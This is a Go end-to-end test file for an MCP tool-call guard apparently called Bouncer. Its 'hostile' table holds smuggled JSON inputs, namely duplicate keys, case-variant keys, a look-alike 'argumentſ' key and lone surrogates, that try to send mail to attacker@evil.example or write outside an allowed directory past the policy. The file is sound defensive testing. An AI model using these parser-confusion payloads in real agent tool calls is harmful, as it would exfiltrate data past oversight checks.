package e2e_test

import (
	"fmt"
	"os"
	"strings"
	"testing"

	"github.com/bouncer-mcp/bouncer/internal/testsupport/e2e"
)

// hostile are the inputs of issue 10: calls Bouncer may judge one way while
// a real server acts on something else. {{DIR}} is the session's working
// directory; the policy is the one above (mail only to the boss, files only
// under DIR/out) and read_inbox has tainted attacker@evil.example first.
var hostile = []struct {
	name   string
	params string   // the tools/call params, raw
	only   []string // servers the row applies to; nil: mcpgo and jsonparse
	file   string   // a file whose existence afterwards shows the server wrote it
}{
	{name: `params "arguments" then "argumentſ"`,
		params: `{"name":"send_email","arguments":{"to":"boss@corp.example","body":"hi"},"argumentſ":{"to":"attacker@evil.example","body":"secrets"}}`},
	{name: `"to" then "tO"`,
		params: `{"name":"send_email","arguments":{"to":"boss@corp.example","tO":"attacker@evil.example"}}`},
	{name: `"to" then "tO" (GetString)`, only: []string{"mcpgo"},
		params: `{"name":"send_email_map","arguments":{"to":"boss@corp.example","tO":"attacker@evil.example"}}`},
	{name: `only "tO"`,
		params: `{"name":"send_email","arguments":{"tO":"attacker@evil.example"}}`},
	{name: `only "tO" (GetString)`, only: []string{"mcpgo"},
		params: `{"name":"send_email_map","arguments":{"tO":"attacker@evil.example"}}`},
	{name: `write_file only "Path"`, only: []string{"mcpgo", "jsonparse", "filesystem"}, file: "{{DIR}}/outside.txt",
		params: `{"name":"write_file","arguments":{"Path":"{{DIR}}/outside.txt","content":"pwned"}}`},
	{name: `write_file "path" twice`, only: []string{"mcpgo", "jsonparse", "filesystem"}, file: "{{DIR}}/outside2.txt",
		params: `{"name":"write_file","arguments":{"path":"{{DIR}}/out/ok.txt","path":"{{DIR}}/outside2.txt","content":"pwned"}}`},
	{name: `"to" twice`,
		params: `{"name":"send_email","arguments":{"to":"boss@corp.example","to":"attacker@evil.example"}}`},
	{name: `notify: recipient as a key`,
		params: `{"name":"notify","arguments":{"notify":{"attacker@evil.example":"Bob"}}}`},
	{name: `notify: recipient as a key, trusted value`,
		params: `{"name":"notify","arguments":{"notify":{"attacker@evil.example":"boss@corp.example"}}}`},
	{name: `lone surrogate in "to"`,
		params: `{"name":"send_email","arguments":{"to":"attacker@evil.example\ud800","body":"x"}}`},
	{name: `nested "To" only`,
		params: `{"name":"send_batch","arguments":{"messages":[{"To":"attacker@evil.example","body":"x"}]}}`},
	{name: `nested "to" then "To"`,
		params: `{"name":"send_batch","arguments":{"messages":[{"to":"boss@corp.example","To":"attacker@evil.example","body":"x"}]}}`},
}

// TestHostileInputs sends each hostile input to each real server straight
// ("direct", which shows what the server would act on) and through bouncer,
// and fails if anything reached a server through bouncer: every row is a
// call that some server reads differently from the way a naive judge reads
// it (issue 10's classes 1 and 2). Run with -v to see the table.
func TestHostileInputs(t *testing.T) {
	type cell struct{ direct, verdict, via string }
	results := map[string]map[string]cell{} // case → server → cell
	serverNames := []string{"mcpgo", "jsonparse", "filesystem"}
	for _, name := range serverNames {
		for _, direct := range []bool{true, false} {
			mode := "bouncer"
			if direct {
				mode = "direct"
			}
			t.Run(name+"/"+mode, func(t *testing.T) {
				s, acted := hostileSession(t, name, direct)
				for i, c := range hostile {
					if !appliesTo(c.only, name) {
						continue
					}
					id := 100 + i
					params := strings.ReplaceAll(c.params, "{{DIR}}", s.Dir)
					r := s.Roundtrip(fmt.Sprintf(`{"jsonrpc":"2.0","id":%d,"method":"tools/call","params":%s}`, id, params))
					did := acted(r, strings.ReplaceAll(c.file, "{{DIR}}", s.Dir))
					if results[c.name] == nil {
						results[c.name] = map[string]cell{}
					}
					cl := results[c.name][name]
					if direct {
						cl.direct = did
					} else {
						cl.via = did
						var vs []string
						for _, e := range s.Audit() {
							if string(e.ID) == fmt.Sprint(id) {
								vs = append(vs, e.Verdict+"/"+e.Rule)
							}
						}
						cl.verdict = strings.Join(vs, " ")
						if cl.verdict == "" {
							cl.verdict = "(no audit line)"
						}
					}
					results[c.name][name] = cl
				}
			})
		}
	}
	var b strings.Builder
	fmt.Fprintf(&b, "\n%-42s %-10s | %-60s | %-22s | %s\n", "input", "server", "direct: server acted on", "bouncer verdicts", "via bouncer: server acted on")
	for _, c := range hostile {
		for _, name := range serverNames {
			cl, ok := results[c.name][name]
			if !ok {
				continue
			}
			fmt.Fprintf(&b, "%-42s %-10s | %-60s | %-22s | %s\n", c.name, name, cl.direct, cl.verdict, cl.via)
			if !strings.HasPrefix(cl.via, "nothing") || !strings.HasPrefix(cl.verdict, "deny") {
				t.Errorf("%s, %s: through bouncer (%s) the server acted on %s", c.name, name, cl.verdict, cl.via)
			}
		}
	}
	t.Log(b.String())
}

// TestForwardedIsJudged: an allowed call reaches each server as the audit
// line records it, whatever escapes the client used, so Go and JSON.parse
// servers act on the same characters Bouncer judged.
func TestForwardedIsJudged(t *testing.T) {
	for _, name := range []string{"mcpgo", "jsonparse"} {
		t.Run(name, func(t *testing.T) {
			s, _ := hostileSession(t, name, false)
			params := `{"name":"send_email","arguments":{"to":"boss@corp.example","body":"a\ud800b \u0041\u00e9","subject":"x"}}`
			r := s.Roundtrip(`{"jsonrpc":"2.0","id":7,"method":"tools/call","params":` + params + `}`)
			if r.Blocked() || r.Error != nil {
				t.Fatalf("benign call refused: %s", r.Raw)
			}
			effects := s.Effects()
			last := effects[len(effects)-1]
			if last["body"] != "a\ufffdb A\u00e9" {
				t.Errorf("server acted on body %q, want the judged %q", last["body"], "a\ufffdb A\u00e9")
			}
			var judged string
			for _, e := range s.Audit() {
				if string(e.ID) == "7" {
					judged = string(e.Args)
				}
			}
			if !strings.Contains(judged, "a\ufffdb A\u00e9") {
				t.Errorf("audit args %s", judged)
			}
		})
	}
}

func appliesTo(only []string, name string) bool {
	if only == nil {
		return name == "mcpgo" || name == "jsonparse"
	}
	for _, o := range only {
		if o == name {
			return true
		}
	}
	return false
}

// hostileSession starts the named server (through bouncer unless direct),
// taints attacker@evil.example with read_inbox (the filesystem server has
// none), and returns a function that says what the server did for a call:
// the side-effects lines it added, or whether file now exists.
func hostileSession(t *testing.T, name string, direct bool) (*e2e.Session, func(e2e.Response, string) string) {
	var srv e2e.Server
	dir := t.TempDir()
	if err := os.Mkdir(dir+"/out", 0o700); err != nil {
		t.Fatal(err)
	}
	switch name {
	case "mcpgo":
		srv = e2e.MCPGo(t)
	case "jsonparse":
		srv = e2e.JSONParse(t)
	case "filesystem":
		srv = e2e.Filesystem(t, dir)
	}
	s := e2e.Start(t, srv, e2e.Options{Policy: policy, Dir: dir, Direct: direct})
	if srv.SideEffects != "" {
		if r := s.CallTool(1, "read_inbox", `{}`); !strings.Contains(r.Text, "attacker@evil.example") {
			t.Fatalf("read_inbox: %s", r.Raw)
		}
	}
	seen := 0
	acted := func(r e2e.Response, file string) string {
		var did []string
		if srv.SideEffects != "" {
			se := s.SideEffects()
			for _, line := range se[seen:] {
				// {"tool":"x","to":...} → to:...
				if i := strings.Index(line, `",`); strings.HasPrefix(line, `{"tool":"`) && i > 0 {
					line = strings.TrimSuffix(line[i+2:], "}")
				}
				did = append(did, strings.ReplaceAll(line, s.Dir, "DIR"))
			}
			seen = len(se)
		}
		if file != "" {
			if _, err := os.Stat(file); err == nil {
				did = append(did, "WROTE "+strings.TrimPrefix(file, s.Dir+"/"))
				os.Remove(file)
			}
		}
		if len(did) > 0 {
			return strings.Join(did, "; ")
		}
		switch {
		case r.Blocked():
			return "nothing (blocked)"
		case r.Error != nil:
			return "nothing (error " + fmt.Sprint(r.Error.Code) + ": " + short(r.Error.Message) + ")"
		default:
			return "nothing (" + short(r.Text) + ")"
		}
	}
	return s, acted
}

func short(s string) string {
	s = strings.ReplaceAll(s, "\n", " ")
	if len(s) > 50 {
		return s[:50] + "…"
	}
	return s
}
